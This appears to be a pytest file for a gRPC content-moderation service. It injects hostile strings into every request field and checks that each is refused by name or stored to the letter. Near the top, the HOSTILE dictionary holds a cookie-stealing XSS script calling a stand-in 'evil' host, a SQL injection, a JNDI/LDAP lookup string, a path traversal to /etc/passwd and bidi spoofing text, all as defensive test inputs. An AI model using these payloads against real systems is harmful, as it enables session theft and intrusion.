"""Hostile values in every field: refused by a name, or kept to the letter; and nothing is lost."""

from collections.abc import Callable
from typing import Any

import grpc
import pytest
from google.protobuf.message import Message
from google.protobuf.timestamp_pb2 import Timestamp
from parley.moderation.v1 import moderation_pb2 as pb
from sqlalchemy import Engine

from moderation_service.domain.shared.roles import PERMISSIONS
from tests.moderation_service.books import check_books
from tests.moderation_service.conftest import FACTS, RULE, Client, measure, muted
from tests.support.callers import as_moderator
from tests.support.serving import status_of, unpack

SCRIPT = "<script>fetch('//evil/'+document.cookie)</script><img src=x onerror=alert(1)>"
BIDI = "\u202egnp.exe\u2066 \u200f\u200b\ufeff"
HOSTILE = {
    "script": SCRIPT,
    "bidi": BIDI,
    "nul": "a\0b",
    "controls": "\x1b[2J\x07\r\n\x7f",
    "spaces": " \t\n\u2003",
    "large": "x" * 1_000_000,
    "large and wide": "\N{CAT FACE}" * 250_000,
    "quotes": "'; DROP TABLE cases; --",
    "json": '{"a":[1e999,NaN]}',
    "format": "%s%n{0}${jndi:ldap://x}",
    "path": "../../../../etc/passwd",
    "token": "OTk5OTk5OTk5OTk5OTk5OTk5OTk6eA",
}
FINE = (None, "INVALID_ARGUMENT")
Refused = Callable[..., Any]


async def prepare(client: Client) -> dict[str, Message]:
    peers = client.peers
    said = await peers.say("bob", "ann", "pay outside")
    service = await peers.agree()
    await client.report(author="bob", actor="ann")
    (case,) = await client.cases()
    decided = await client.decide(case.id, muted(), measure("WARNING"))
    decision = decided.decisions[0]
    appealed = await client.call(
        "CreateAppeal", actor="bob", decision_id=decision.id, text="Not me."
    )
    await client.report(author="bob", actor="ann")
    (waiting,) = await client.cases()
    claimed = (await client.moderate("ClaimCase", case_id=waiting.id)).case
    opened = await client.call(
        "CreateDispute",
        actor="bob",
        service_id=service.id,
        reason=pb.DISPUTE_REASON_QUALITY,
        statement="It fell apart.",
    )
    position = (await client.standing("bob")).position
    dispute = opened.dispute.id
    parts = pb.Settlement(provider_minor=1, client_minor=2)
    fields: dict[str, dict[str, Any]] = {
        "ReportMessage": {"actor": "ann", "message_id": said.id, "reason": 1, "comment": "c"},
        "ReportConversation": {
            "actor": "ann",
            "conversation_id": said.conversation_id,
            "reason": 1,
            "comment": "c",
        },
        "ReportDisputeStatement": {
            "actor": "ann",
            "dispute_id": dispute,
            "number": 1,
            "reason": 1,
            "comment": "c",
        },
        "ListReports": {"actor": "ann"},
        "GetStanding": {"actor": "bob"},
        "CreateAppeal": {"actor": "ann", "decision_id": decision.id, "text": "words"},
        "ListOwnAppeals": {"actor": "bob"},
        "CreateDispute": {
            "actor": "ann",
            "service_id": service.id,
            "reason": 1,
            "statement": "words",
            "refund": pb.Money(amount_minor=1, currency="EUR"),
        },
        "SubmitDisputeStatement": {"actor": "ann", "dispute_id": dispute, "text": "words"},
        "GetDispute": {"actor": "ann", "dispute_id": dispute},
        "ListOwnDisputes": {"actor": "ann", "service_id": service.id},
        "ListCases": {"accused": "bob", "claimed_by": "mia"},
        "GetCase": {"case_id": case.id},
        "ClaimCase": {"case_id": waiting.id},
        "ReleaseCase": {"case_id": case.id},
        "DecideCase": {
            "case_id": waiting.id,
            "version": claimed.version,
            "verdict": pb.VERDICT_VIOLATION,
            "measures": [measure("WARNING"), measure("MESSAGE_REMOVED", "", message_id="m")],
            "note": "words",
        },
        "ListAppeals": {},
        "DecideAppeal": {
            "appeal_id": appealed.appeal.id,
            "version": 1,
            "outcome": pb.APPEAL_STATUS_UPHELD,
            "answer": "words",
        },
        "ListSanctions": {"user": "bob"},
        "LiftSanction": {"sanction_id": decision.sanctions[0].id, "reason": "words"},
        "ListDisputes": {},
        "DecideDispute": {
            "dispute_id": dispute,
            "version": 1,
            "outcome": pb.DISPUTE_OUTCOME_SPLIT,
            "split": parts,
            "facts": FACTS,
            "rule": RULE,
        },
        "ListAudit": {"target_id": case.id},
        "EraseUser": {"user": "eve"},
        "EndSessions": {"user": "eve"},
        "RevokeToken": {"user": "eve", "token_id": "words"},
        "BatchGetStandings": {"users": ["bob"]},
        "UpdateWatch": {"watcher_id": "none", "add_users": ["bob"], "remove_users": ["ann"]},
        "ListChanges": {"user": "bob", "after": pb.Position(epoch=position.epoch),
                        "until": position},
        "BatchListChanges": {"requests": [
            pb.ListChangesRequest(user="bob", after=pb.Position(epoch=position.epoch),
                                  until=position)]},
        "ListChangedUsers": {"users": ["bob"], "after": pb.Position(epoch=position.epoch),
                             "until": position},
    }  # fmt: skip
    return {name: getattr(pb, f"{name}Request")(**given) for name, given in fields.items()}


def with_text(request: Any, text: str) -> list[tuple[str, Any]]:
    """Copies of a request, each with the text in another of its fields, and which one that is."""
    made: list[tuple[str, Any]] = []
    for field in request.DESCRIPTOR.fields:
        if field.message_type is None:
            if field.cpp_type == field.CPPTYPE_STRING:
                copy = type(request)()
                copy.CopyFrom(request)
                if field.is_repeated:
                    getattr(copy, field.name).append(text)
                else:
                    setattr(copy, field.name, text)
                made.append((field.name, copy))
            continue
        if field.message_type.full_name == Timestamp.DESCRIPTOR.full_name:
            continue
        if field.is_repeated:
            for index, part in enumerate(getattr(request, field.name)):
                for name, changed in with_text(part, text):
                    copy = type(request)()
                    copy.CopyFrom(request)
                    getattr(copy, field.name)[index].CopyFrom(changed)
                    made.append((f"{field.name}[{index}].{name}", copy))
        elif request.HasField(field.name):
            for name, changed in with_text(getattr(request, field.name), text):
                copy = type(request)()
                copy.CopyFrom(request)
                getattr(copy, field.name).CopyFrom(changed)
                made.append((f"{field.name}.{name}", copy))
    return made


async def outcome(client: Client, name: str, request: Any) -> tuple[str, str]:
    needed = PERMISSIONS[name]
    metadata = as_moderator("max", tuple(needed)) if needed else None
    try:
        await client.call(name, request, metadata)
    except grpc.aio.AioRpcError as error:
        code, status = error.code().name, status_of(error)
    else:
        return "OK", ""
    assert code not in {"UNKNOWN", "INTERNAL"}, status
    return code, unpack(status)["ErrorInfo"].reason


async def test_no_text_in_any_field_does_harm(client: Client, engine: Engine) -> None:
    """Each is refused with a name or taken; then everything still works and agrees."""
    prepared = await prepare(client)
    methods = pb.DESCRIPTOR.services_by_name["ModerationService"].methods_by_name
    assert prepared.keys() == {*methods} - {"Watch", "StreamUpdateWatch"}
    tried = 0
    for name, request in prepared.items():
        for text in HOSTILE.values():
            for field, changed in with_text(request, text):
                code, reason = await outcome(client, name, changed)
                tried += 1
                if len(text) > 100_000 and "OK" not in code:
                    assert reason in REFUSES_LARGE, (name, field, reason)
                # A large text is taken where it names somebody or something that is not there.
                assert len(text) < 100_000 or code != "OK" or name in LOOKS_UP, (name, field)
    assert tried > 500
    check_books(engine)
    assert await client.report()


# Nothing is known of such a name: nothing restricts, and nothing was told.
LOOKS_UP = {
    "BatchGetStandings", "ListOwnDisputes", "ListAudit", "ListChanges", "BatchListChanges",
    "ListChangedUsers",
}  # fmt: skip
REFUSES_LARGE = {
    "INVALID_ARGUMENT",
    "WATCHER_NOT_FOUND",
    *(f"{one}_NOT_FOUND" for one in ("MESSAGE", "CONVERSATION", "SERVICE", "CASE", "DECISION",
                                     "APPEAL", "SANCTION", "DISPUTE")),
    # What stands before the field at fault.
    "STALE_CASE", "STALE_DISPUTE", "INVALID_STATE", "NOT_CLAIMED", "OPEN_DISPUTE_EXISTS",
}  # fmt: skip


@pytest.mark.parametrize("name", ["script", "bidi", "quotes", "json", "format", "controls"])
async def test_get_case_shows_texts_to_the_letter(client: Client, name: str) -> None:
    """Nothing is escaped, cut or interpreted: that is for the programs that show it."""
    text = HOSTILE[name]
    report = await client.report(comment=text, text=text)
    assert report.comment == text
    (listed,) = await client.cases()
    case = (await client.moderate("GetCase", case_id=listed.id)).case
    assert case.reports[0].comment == text
    assert all(one.intact for one in case.evidence)
    warning = measure("WARNING", facts=text)
    decided = await client.decide(case.id, warning, note=text)
    assert decided.decisions[0].note == text
    assert decided.decisions[0].sanctions[0].statement.facts == text


async def test_submit_dispute_statement_in_a_flood(client: Client, refused: Refused) -> None:
    """However much a party has said, the other learns why something is refused."""
    service = await client.peers.agree()
    opened = await client.call(
        "CreateDispute",
        actor="bob",
        service_id=service.id,
        reason=pb.DISPUTE_REASON_QUALITY,
        statement="\N{CAT FACE}" * 4_000,
    )
    dispute = {"dispute_id": opened.dispute.id}
    for _ in range(19):
        words = "\N{CAT FACE}" * 4_000
        await client.call("SubmitDisputeStatement", actor="bob", text=words, **dispute)
    details = await refused(
        client.call("SubmitDisputeStatement", actor="bob", text="more", **dispute),
        grpc.StatusCode.FAILED_PRECONDITION,
        "TOO_MANY_STATEMENTS",
    )
    assert details["Dispute"].id == opened.dispute.id
    assert not details["Dispute"].statements
    whole = (await client.call("GetDispute", actor="ann", **dispute)).dispute
    assert len(whole.statements) == 20


@pytest.mark.parametrize(
    ("field", "change"),
    [
        ("reason", {"reason": 0}),
        ("reason", {"reason": 99}),
        ("reason", {"reason": -1}),
        ("comment", {"comment": "x" * 2_001}),
        ("comment", {"comment": "a\0b"}),
        ("comment", {"reason": pb.REPORT_REASON_OTHER}),
        ("actor", {"actor": ""}),
        ("actor", {"actor": "x" * 129}),
        ("actor", {"actor": "a\nb"}),
        ("idempotency_key", {"idempotency_key": "k" * 65}),
    ],
)
async def test_a_bad_report_names_its_field(
    client: Client, refused: Refused, field: str, change: dict[str, Any]
) -> None:
    """Before anybody is asked for evidence."""
    given = {"actor": "ann", "message_id": "unknown", "reason": pb.REPORT_REASON_SPAM, **change}
    await refused(
        client.call("ReportMessage", **given),
        grpc.StatusCode.INVALID_ARGUMENT,
        "INVALID_ARGUMENT",
        field,
    )


@pytest.mark.parametrize(
    ("field", "change"),
    [
        ("measures[0].kind", {"kind": 0}),
        ("measures[0].kind", {"kind": 77}),
        ("measures[0].ground", {"ground": 9}),
        ("measures[0].until_time", {"until_time": None}),
        ("measures[0].until_time", {"until_time": Timestamp(seconds=1)}),
        ("measures[0].until_time", {"until_time": Timestamp(seconds=-(2**62))}),
        ("measures[0].until_time", {"until_time": Timestamp(seconds=2**62)}),
        ("measures[0].until_time", {"until_time": Timestamp(seconds=1, nanos=-1)}),
        ("measures[0].until_time", {"until_time": Timestamp(seconds=253_402_300_799)}),
        ("measures[0].facts", {"facts": ""}),
        ("measures[0].facts", {"facts": "ann told us"}),
        ("measures[0].rule", {"rule": "x" * 201}),
        ("measures[0].user", {"user": "eve"}),
    ],
)
async def test_a_bad_measure_names_its_field(
    client: Client, refused: Refused, field: str, change: dict[str, Any]
) -> None:
    """And nothing of the decision is taken."""
    await client.report()
    (case,) = await client.cases()
    bad: Any = muted()
    for name, value in change.items():
        bad.ClearField(name)
        if isinstance(value, Timestamp):
            getattr(bad, name).CopyFrom(value)
        elif value is not None:
            setattr(bad, name, value)
    await refused(
        client.decide(case.id, bad),
        grpc.StatusCode.INVALID_ARGUMENT,
        "INVALID_ARGUMENT",
        field,
    )
    assert not (await client.standing("bob")).sanctions
